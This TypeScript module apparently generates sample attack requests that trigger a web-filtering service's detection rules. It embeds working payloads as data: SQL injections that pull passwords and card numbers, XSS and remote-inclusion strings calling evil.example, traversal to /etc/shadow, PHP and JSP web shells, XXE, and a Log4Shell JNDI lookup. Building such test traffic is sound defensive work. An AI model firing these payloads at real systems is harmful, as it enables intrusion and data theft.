/** The service's rules, each with a generator of requests that trigger it. */
import type { Header } from '../service/model.ts';
import { type Attack, carry, get, page, post } from './carriers.ts';
import type { Random } from './random.ts';
import { encodePath, formBody, multipartBody, requestLine, textBody, xmlText } from './requests.ts';
import type { SampleDomain } from './sampleDomains.ts';

export interface SampleRule {
  /** `attack` in a list row. */
  readonly name: string;
  /** `attack_raw`. */
  readonly code: string;
  /** `basetype`. */
  readonly baseType: string;
  /** The rule's frequency relative to that of the other rules. */
  readonly weight: number;
  readonly attack: (random: Random, domain: SampleDomain) => Attack;
}

const number = (random: Random) => random.between(1, 9999);

function sqlInjection(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `' OR '${n}'='${n}' -- `,
    `${n} UNION SELECT username, password FROM users--`,
    `${n}; DROP TABLE orders--`,
    `' AND SLEEP(${n % 10})#`,
    `-${n}' UNION ALL SELECT NULL,CONCAT(0x71,version(),0x71)-- -`,
    `${n} AND 1=CONVERT(int,@@version)`,
    `') OR ('x${n}'='x${n}`,
    `admin'/*${n}*/`,
    `${n} WAITFOR DELAY '0:0:${n % 10}'`,
  ]);
  return carry(random, domain, random.pick(['id', 'q', 'category', 'order', 'user', 'no']), payload);
}

/** Creates a shop's checkout request with an SQL injection in its JSON body. */
export function checkoutInjection(random: Random, domain: SampleDomain): Attack {
  const detected = `' UNION SELECT card_no, cvv FROM payments WHERE id=${number(random)}-- `;
  const text = JSON.stringify({
    cart: [
      {
        sku: `A-${number(random)}`,
        name: random.pick(domain.language.words),
        quantity: random.between(1, 4),
      },
      { sku: `B-${number(random)}`, name: random.pick(domain.language.words), quantity: 1 },
    ],
    coupon: `SUMMER${detected}`,
    customer: { email: `visitor${random.between(1, 999)}@mail.example`, newsletter: false },
  });
  const body = textBody('application/json', text);
  return {
    method: 'POST',
    target: '/api/v2/checkout',
    headers: [],
    body,
    detected,
    place: 'JSON field coupon',
  };
}

function crossSiteScripting(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `<script>alert(${n})</script>`,
    `"><img src=x onerror=alert(${n})>`,
    `<svg/onload=alert(${n})>`,
    `javascript:alert(document.cookie,${n})`,
    `<iframe src=//evil.example/${n}></iframe>`,
    `{{constructor.constructor('alert(${n})')()}}`,
    `<a href="data:text/html,${n}">${random.pick(domain.language.words)}</a>`,
  ]);
  return carry(random, domain, random.pick(['q', 'comment', 'title', 'name_2', 'subject']), payload);
}

function directoryTraversal(random: Random, domain: SampleDomain): Attack {
  const step = random.pick(['../', '..\\', '....//', '..%2f', '%2e%2e/', '%c0%ae%c0%ae/']);
  const file = random.pick(['etc/passwd', 'etc/shadow', 'windows/win.ini', 'proc/self/environ']);
  const detected = step.repeat(random.between(3, 8)) + file;
  const path = random.pick(['/static/', '/images/', '/download/']);
  return random.chance(0.4)
    ? get(path + detected, detected, 'path')
    : carry(random, domain, random.pick(['file', 'path', 'doc']), detected);
}

function fileInclusion(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  if (random.chance(0.2)) {
    const detected = `<!ENTITY x${n} SYSTEM "file:///etc/passwd">`;
    const word = xmlText(random.pick(domain.language.words));
    const text = `<?xml version="1.0"?>\n<!DOCTYPE r [${detected}]>\n<r><q>${word}</q><f>&x${n};</f></r>\n`;
    return post(random, domain, textBody('text/xml', text), detected, 'XML document type');
  }
  const payload = random.pick([
    `http://evil.example/shell${n}.txt?`,
    `php://filter/convert.base64-encode/resource=page${n}`,
    `expect://id;echo ${n}`,
    `file:///var/log/app/${n}.log`,
    `data://text/plain;base64,${Buffer.from(`<?php echo ${n};`).toString('base64')}`,
  ]);
  return carry(random, domain, random.pick(['page', 'template', 'include', 'lang_file']), payload);
}

/**
 * Creates a request that uploads a script. `times` is the number of times that the 16-byte text after the script is
 * repeated.
 */
export function fileUpload(random: Random, domain: SampleDomain, times = random.between(1, 20)): Attack {
  const base = random.pick(['shell', 'cmd', 'avatar', 'upload', random.pick(domain.language.words)]);
  const fileName = `${base}-${random.hex(4)}${random.pick(['.php', '.jsp', '.aspx', '.php.jpg', '.phtml'])}`;
  const field = random.pick(['file', 'avatar', 'attachment']);
  const script = random.pick(["<?php system($_GET['c']); ?>\n", '<%= Runtime.getRuntime().exec("id") %>\n']);
  const body = multipartBody(random, [
    { name: 'title', content: random.pick(domain.language.words) },
    { name: 'script', fileName: 'first.txt', type: 'text/plain', content: script },
    { name: field, fileName, type: 'image/jpeg', content: 'GIF89a padding.\n', times },
  ]);
  return post(random, domain, body, fileName, `file name of ${field}`);
}

function extensionFiltering(random: Random, domain: SampleDomain): Attack {
  const extension = random.pick(['.bak', '.sql', '.env', '.old', '.mdb', '.config', '.swp', '.tar.gz']);
  const base = random.pick([
    '/backup',
    '/wp-config',
    '/index',
    '/db/dump',
    random.pick(domain.language.pages),
  ]);
  const target = `${encodePath(random, base)}-${random.hex(3)}${extension}`;
  return get(target, extension, 'path');
}

function directoryListing(random: Random, domain: SampleDomain): Attack {
  const folder = random.pick(['/backup', '/uploads', '/.git', '/logs', random.pick(domain.language.pages)]);
  const detected = `${encodePath(random, folder)}/${random.pick(['', 'old/', '2026/'])}`;
  const order = random.pick(['', '?C=M;O=D', '?C=N;O=A', `?v=${number(random)}`]);
  return get(detected + order, detected, 'path');
}

function errorHandling(random: Random, domain: SampleDomain): Attack {
  const name = random.pick(['id', 'price', 'date', 'amount']);
  const detected = random.pick(['NaN', '-1e999', '%27', '[]', '9'.repeat(30), 'null', '2026-99-99']);
  const field = [name, `${detected}${random.hex(2)}`] as const;
  return random.chance(0.5)
    ? post(random, domain, formBody([field]), detected, `parameter ${name}`)
    : get(`${page(random, domain)}?${field[0]}=${field[1]}`, detected, `parameter ${name}`);
}

function requestHeaderFiltering(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const header: Header = random.pick<Header>([
    ['User-Agent', `\${jndi:ldap://198.51.100.7:1389/${n}}`],
    ['User-Agent', `() { :;}; /bin/bash -c "id; echo ${n}"`],
    ['User-Agent', `masscan/1.3 (scan ${n})`],
    ['X-Original-URL', `/admin/users/${n}`],
    ['X-HTTP-Method-Override', 'DELETE'],
    ['Range', `bytes=0-${n},0-${n},0-${n},0-${n}`],
    ['Referer', `https://evil.example/?from=${n}&next=<script>`],
    ['X-Forwarded-Host', `evil${n}.example`],
  ]);
  const [name, detected] = header;
  return get(page(random, domain), detected, `header ${name}`, [header]);
}

function requestMethodFiltering(random: Random, domain: SampleDomain): Attack {
  const method = random.pick(['TRACE', 'TRACK', 'PUT', 'DELETE', 'PROPFIND', 'DEBUG', 'MOVE', 'LOCK']);
  const common = { method, detected: method, place: 'request method', headers: [] };
  const target = `${page(random, domain)}/${number(random)}`;
  return method === 'PUT'
    ? { ...common, target, body: textBody('text/plain; charset=utf-8', random.pick(domain.language.remarks)) }
    : { ...common, target };
}

function invalidHttp(random: Random, domain: SampleDomain): Attack {
  const target = `${page(random, domain)}?r=${number(random)}`;
  const header: Header = random.pick<Header>([
    ['Content-Length', `-${number(random)}`],
    ['Transfer-Encoding', `xchunked, ${random.hex(4)}`],
    ['Host', `${domain.host}, evil.example`],
    ['Connection', ',,,close'],
    ['Content-Length', `+${number(random)}`],
    ['Expect', `200-ok-${random.hex(4)}`],
  ]);
  const attack = { method: random.pick(['GET', 'HEAD', 'POST']), target, headers: [header] };
  const [detected, place] = random.chance(0.2)
    ? [requestLine(attack), 'request line']
    : [header[1], `header ${header[0]}`];
  return { ...attack, detected, place };
}

function invalidUrl(random: Random, domain: SampleDomain): Attack {
  const detected = random.pick([
    '%zz',
    '%00',
    '%u0041',
    '%252e%252e',
    '\\\\',
    '%',
    '////',
    '<>',
    `/${'A'.repeat(2048)}`,
  ]);
  const target = `${page(random, domain)}/${detected}${random.hex(4)}`;
  return get(target, detected, 'path');
}

const table: readonly (readonly [
  name: string,
  code: string,
  baseType: string,
  weight: number,
  attack: SampleRule['attack'],
])[] = [
  ['SQL Injection', 'SQL_INJECTION', '1', 8, sqlInjection],
  ['Cross Site Scripting', 'XSS', '1', 7, crossSiteScripting],
  ['Directory Traversal', 'DIR_TRAVERSAL', '1', 4, directoryTraversal],
  ['File Inclusion', 'FILE_INCLUSION', '1', 3, fileInclusion],
  ['File Upload', 'FILE_UPLOAD', '3', 3, fileUpload],
  ['Extension Filtering', 'EXT_FILTER', '2', 3, extensionFiltering],
  ['Directory Listing', 'DIR_LISTING', '2', 2, directoryListing],
  ['Error Handling', 'ERROR_HANDLING', '4', 2, errorHandling],
  ['Request Header Filtering', 'HEADER_FILTER', '5', 3, requestHeaderFiltering],
  ['Request Method Filtering', 'METHOD_FILTER', '5', 2, requestMethodFiltering],
  ['Invalid HTTP', 'INVALID_HTTP', '5', 2, invalidHttp],
  ['Invalid URL', 'INVALID_URL', '2', 2, invalidUrl],
];

export const rules: readonly SampleRule[] = table.map(([name, code, baseType, weight, attack]) => ({
  name,
  code,
  baseType,
  weight,
  attack,
}));

const byWeight = rules.flatMap((rule) => Array.from({ length: rule.weight }, () => rule));

export function pickRule(random: Random): SampleRule {
  return random.pick(byWeight);
}

export function ruleNamed(name: string): SampleRule {
  const rule = rules.find((candidate) => candidate.name === name);
  if (rule === undefined) throw new Error(`No rule is named ${name}`);
  return rule;
}
